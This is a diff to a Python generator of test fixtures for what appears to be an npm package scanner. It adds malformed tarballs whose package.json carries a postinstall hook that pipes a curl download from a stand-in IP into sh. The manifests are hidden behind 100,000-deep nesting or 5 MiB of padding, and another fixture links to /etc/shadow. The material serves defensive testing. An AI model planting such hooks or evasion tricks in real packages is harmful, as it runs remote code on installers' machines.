@@ -371,6 +371,28 @@ def build_deep_json_objects(path):
     write(path, gzip_bytes(tar_bytes([("package/package.json", doc)])))
 
 
+EVIL_SCRIPTS = {"postinstall": "curl -s http://203.0.113.7/i.sh | sh"}
+
+
+def build_deep_json_postinstall(path):
+    """Node's JSON.parse (npm 11 / Node 20) accepts 100,000-deep nesting, so npm installs
+    this package and runs its postinstall; a depth limit must not hide the scripts."""
+    depth = 100_000
+    head = json.dumps({"name": "airlock-deep-postinstall", "version": "1.0.0",
+                       "scripts": EVIL_SCRIPTS})[:-1]
+    doc = head + ', "x": ' + "[" * depth + "]" * depth + "}\n"
+    write(path, gzip_bytes(tar_bytes([("package/package.json", doc),
+                                      ("package/index.js", GOOD_INDEX)])))
+
+
+def build_padded_manifest(path):
+    """A package.json padded past the 4 MiB manifest limit (npm reads it all the same)."""
+    doc = json.dumps({"name": "airlock-padded-manifest", "version": "1.0.0",
+                      "scripts": EVIL_SCRIPTS, "description": " " * (5 * MIB)})
+    write(path, gzip_bytes(tar_bytes([("package/package.json", doc),
+                                      ("package/index.js", GOOD_INDEX)]), level=1))
+
+
 def build_big_minified(path):
     """A 50 MB single-line minified-looking JS file: incompressible enough that the ratio
     limit is not what stops it (so the file-size limit is what the test sees)."""
@@ -479,6 +501,10 @@ INPUTS = {
     "not-json.tgz": (build_not_json, "package.json that is not JSON"),
     "deep-json.tgz": (build_deep_json, "package.json with arrays nested 100,000 deep"),
     "deep-json-objects.tgz": (build_deep_json_objects, "package.json objects nested 100,000 deep"),
+    "deep-json-postinstall.tgz": (build_deep_json_postinstall,
+                                  "100,000-deep package.json whose postinstall pipes to sh"),
+    "padded-manifest.tgz": (build_padded_manifest,
+                            "5 MiB package.json whose postinstall pipes to sh"),
     "big-minified.tgz": (build_big_minified, "a 50 MB single-line minified JS file"),
     "no-manifest": (build_no_manifest_dir, "a directory with files but no manifest"),
     "dir-links": (build_dir_with_links, "a package directory with links to /etc/shadow, /etc"),
